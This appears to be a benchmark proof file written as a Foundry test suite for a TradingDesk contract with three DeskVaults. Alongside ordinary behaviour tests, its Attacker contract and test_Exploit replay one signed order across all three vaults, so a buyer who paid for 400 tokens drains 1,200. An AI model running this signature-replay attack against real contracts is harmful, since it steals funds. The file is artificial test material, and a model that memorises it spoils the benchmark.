// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

import "./TradingDesk.sol";
import {ERC20} from "@openzeppelin/contracts@5.4.0/token/ERC20/ERC20.sol";

// assay-canary-48d74dec-1912-4d38-9934-453e8ff62386

interface Vm {
    function warp(uint256 time) external;
    function addr(uint256 key) external returns (address);
    function sign(uint256 key, bytes32 digest) external returns (uint8 v, bytes32 r, bytes32 s);
    function expectRevert() external;
    function expectRevert(bytes calldata reason) external;
    function prank(address sender) external;
}

contract Dollar is ERC20 {
    constructor() ERC20("Dollar", "USD") {
        _mint(msg.sender, 2_400);
    }
}

/// A buyer with one paid order, which it presents everywhere.
contract Attacker {
    TradingDesk internal desk;
    DeskVault.Order internal order;
    bytes internal signature;

    constructor(TradingDesk desk_) {
        desk = desk_;
    }

    function receiveOrder(DeskVault.Order memory order_, bytes memory signature_) external {
        (order, signature) = (order_, signature_);
    }

    function run() external {
        for (uint256 i = 0; i < 3; ++i) {
            try desk.vaults(i).release(order, signature) {} catch {}
        }
    }
}

contract Proof {
    Vm internal constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    uint256 internal constant KEY = 0xD15;
    address internal constant BEN = address(0xBE9);
    bytes32 internal constant ORDER_TYPE =
        keccak256("Order(address token,address buyer,uint256 amount,uint256 number,uint256 lastDay)");

    TradingDesk internal desk;
    Dollar internal dollar;
    Attacker internal buyer;

    function setUp() public {
        vm.warp(1_700_000_000);
        desk = new TradingDesk(vm.addr(KEY));
        dollar = new Dollar();
        buyer = new Attacker(desk);
        string[3] memory venues = ["Frankfurt", "London", "Zurich"];
        for (uint256 i = 0; i < 3; ++i) {
            DeskVault vault = desk.openVault(venues[i]);
            dollar.approve(address(vault), 800);
            vault.deposit(address(dollar), 800);
        }
        // the buyer has paid for half of the first vault
        DeskVault.Order memory paid = _order(address(buyer), 400, 1);
        buyer.receiveOrder(paid, _sign(0, paid));
        // and has been there
        desk.vaults(0).release(paid, _sign(0, paid));
    }

    function _order(address to, uint256 amount, uint256 number) private view returns (DeskVault.Order memory) {
        return DeskVault.Order(address(dollar), to, amount, number, block.timestamp / 1 days + 5);
    }

    /// What the desk signs for a vault.
    function _sign(uint256 vault, DeskVault.Order memory order) private returns (bytes memory) {
        bytes32 content = keccak256(abi.encode(ORDER_TYPE, order));
        bytes32 digest = keccak256(abi.encodePacked(hex"1901", desk.vaults(vault).domain(), content));
        (uint8 v, bytes32 r, bytes32 s) = vm.sign(KEY, digest);
        return abi.encodePacked(r, s, v);
    }

    function test_Regular() public {
        DeskVault vault = desk.vaults(1);
        DeskVault.Order memory order = _order(BEN, 100, 2);
        bytes memory signature = _sign(1, order);
        vault.release(order, signature);
        require(dollar.balanceOf(BEN) == 100 && vault.sold(address(dollar)) == 100, "released");
        require(!_release(vault, order, signature), "twice");
        order.number = 3;
        require(!_release(vault, order, signature), "another number");
        signature = _sign(1, order);
        vm.warp(block.timestamp + 7 days);
        require(!_release(vault, order, signature), "too late");
        vault.withdraw(address(dollar), 700);
        require(dollar.balanceOf(address(this)) == 700, "withdrawn");
        (bool ok, ) = address(vault).call(abi.encodeCall(vault.withdraw, (address(dollar), 101)));
        require(!ok, "more than was supplied");

        desk.setOrderSigner(address(0xD2));
        require(desk.orderSigner() == address(0xD2), "another signer");
        desk.transferOwnership(BEN);
        vm.prank(BEN);
        desk.renounceOwnership();
    }

    function _release(DeskVault vault, DeskVault.Order memory order, bytes memory signature) private returns (bool ok) {
        (ok, ) = address(vault).call(abi.encodeCall(vault.release, (order, signature)));
    }

    function test_RefusesStrangers() public {
        bytes memory why = abi.encodeWithSelector(Ownable.OwnableUnauthorizedAccount.selector, BEN);
        vm.prank(BEN);
        vm.expectRevert(why);
        desk.setOrderSigner(BEN);
        vm.prank(BEN);
        vm.expectRevert(why);
        desk.openVault("Dublin");
        vm.expectRevert(abi.encodeWithSelector(TradingDesk.SignerMissing.selector, address(this)));
        desk.setOrderSigner(address(0));
    }

    function test_RefusesOrders() public {
        DeskVault vault = desk.vaults(1);
        DeskVault.Order memory order = _order(address(0), 1, 5);
        bytes memory signature = _sign(1, order);
        vm.expectRevert(abi.encodeWithSelector(DeskVault.BuyerMissing.selector, 5));
        vault.release(order, signature);
        order.buyer = BEN;
        signature = _sign(1, order);
        vm.expectRevert(abi.encodeWithSelector(ECDSA.ECDSAInvalidSignatureLength.selector, 66));
        vault.release(order, abi.encodePacked(signature, uint8(0)));
        vm.warp(block.timestamp + 6 days);
        vm.expectRevert(abi.encodeWithSelector(DeskVault.OrderExpired.selector, order.lastDay));
        vault.release(order, signature);
        vm.expectRevert();
        vault.deposit(address(dollar), 1);
    }

    function exploit() public {
        buyer.run();
    }

    function test_Exploit() public {
        uint256 before = dollar.balanceOf(address(buyer));
        exploit();
        require(before == 400 && dollar.balanceOf(address(buyer)) == 1_200, "paid for once, received once");
    }

    function target() public view returns (address) {
        return address(desk.vaults(1));
    }

    function attacker() public view returns (address) {
        return address(buyer);
    }

    function token() public view returns (address) {
        return address(dollar);
    }
}
